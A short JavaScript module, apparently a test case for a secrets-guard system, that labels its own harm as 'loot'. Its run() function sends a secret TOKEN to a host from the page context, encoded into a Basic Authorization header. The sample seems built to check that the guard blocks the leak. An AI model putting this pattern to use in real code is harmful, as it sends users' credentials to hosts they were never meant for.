// A secret is sent to another host as a password.
// guard: secrets are for hosts
// harm: loot
// control: any host
// says: may not send the secret TOKEN to
module.exports = {
  metadata: { name: 'other-host-as-password', cache: 0, requiredSecrets: ['TOKEN'], match: { contextType: 'github', context: { 'page.attack': { equals: 'other-host-as-password' } } } },
  async run(context, secrets) {
    await fetch(`${context.page.granted}/`, { headers: { Authorization: `Basic ${btoa(`user:${secrets.TOKEN}`)}` } });
    return { type: 'text', content: 'sent' };
  },
};
